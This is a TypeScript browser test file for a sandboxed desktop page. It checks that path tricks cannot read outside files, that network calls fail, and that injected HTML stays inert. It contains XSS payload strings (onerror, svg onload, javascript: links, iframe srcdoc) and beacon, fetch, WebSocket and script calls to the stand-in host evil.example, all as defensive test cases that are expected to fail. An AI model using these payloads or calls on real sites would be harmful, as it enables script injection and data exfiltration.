import { expect, test } from './desktop.ts';
import { paths } from './tables.ts';

test('no spelling of a path reads a file that is not of the window', async ({ start }) => {
  const { page, violations } = await start();
  expect(paths.length).toBeGreaterThanOrEqual(200);
  const index = await page.evaluate(async () => (await fetch('index.html')).text());
  const read = await page.evaluate(async (spellings) => {
    const found: [string, number, string][] = [];
    for (const path of spellings) {
      try {
        const response = await fetch(path);
        if (response.status !== 404) found.push([path, response.status, await response.text()]);
      } catch {
        // Another origin: the policy stopped it before it left.
      }
    }
    return found;
  }, paths);
  const foreign = read.filter(
    ([, status, text]) => status !== 200 || (text !== index && !text.includes('<h1>The window stopped')),
  );
  expect(foreign.map(([path, status]) => `${status} ${path}`)).toEqual([]);
  expect(violations.length).toBeGreaterThan(0);
});

test('the page cannot reach the network, whatever it tries', async ({ start }) => {
  const { page } = await start();
  const reached = await page.evaluate(async () => {
    const got: string[] = [];
    const tries: Record<string, () => Promise<unknown>> = {
      fetch: () => fetch('https://evil.example/'),
      'fetch on loopback': () => fetch('http://127.0.0.1:9/'),
      'no-cors': () => fetch('https://evil.example/', { mode: 'no-cors' }),
      beacon: async () => {
        if (!navigator.sendBeacon('https://evil.example/', 'x')) throw new Error('refused');
        throw new Error('queued, and stopped by the policy');
      },
      image: () =>
        new Promise((yes, no) =>
          Object.assign(new Image(), { onload: yes, onerror: no, src: 'https://evil.example/x.png' }),
        ),
      socket: () =>
        new Promise((yes, no) =>
          Object.assign(new WebSocket('wss://evil.example/'), { onopen: yes, onerror: no }),
        ),
      events: () =>
        new Promise((yes, no) =>
          Object.assign(new EventSource('https://evil.example/'), { onopen: yes, onerror: no }),
        ),
      script: () =>
        new Promise((yes, no) => {
          document.head.append(
            Object.assign(document.createElement('script'), {
              onload: yes,
              onerror: no,
              src: 'https://evil.example/x.js',
            }),
          );
        }),
      eval: async () => new Function('return 1')(),
      worker: () =>
        new Promise((yes, no) => {
          const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));
          Object.assign(worker, { onmessage: yes, onerror: no });
        }),
    };
    for (const [name, run] of Object.entries(tries)) {
      await run().then(
        () => got.push(name),
        () => undefined,
      );
    }
    return got;
  });
  expect(reached).toEqual([]);
});

test('text that looks like a page stays text', async ({ start }) => {
  const { page } = await start();
  const ran = await page.evaluate(async () => {
    const payloads = [
      '<img src=x onerror="window.pwned=1">',
      '<svg onload="window.pwned=1"></svg>',
      '<script>window.pwned=1</script>',
      '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
      '<a href="javascript:window.pwned=1" id="go">x</a>',
      '<details open ontoggle="window.pwned=1">x</details>',
      '<style>@import "https://evil.example/x.css"</style>',
      '<link rel="stylesheet" href="https://evil.example/x.css">',
      '<base href="https://evil.example/">',
      '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
      '<object data="https://evil.example/"></object>',
      '<embed src="https://evil.example/">',
    ];
    const box = document.createElement('div');
    document.body.append(box);
    for (const payload of payloads) {
      box.innerHTML = payload;
      document.getElementById('go')?.click();
      const script = box.querySelector('script');
      if (script)
        document.body.append(
          Object.assign(document.createElement('script'), { textContent: script.textContent }),
        );
      await new Promise((resolve) => setTimeout(resolve, 50));
    }
    const base = document.baseURI === location.href;
    box.remove();
    return { pwned: 'pwned' in window, base };
  });
  expect(ran).toEqual({ pwned: false, base: true });
});
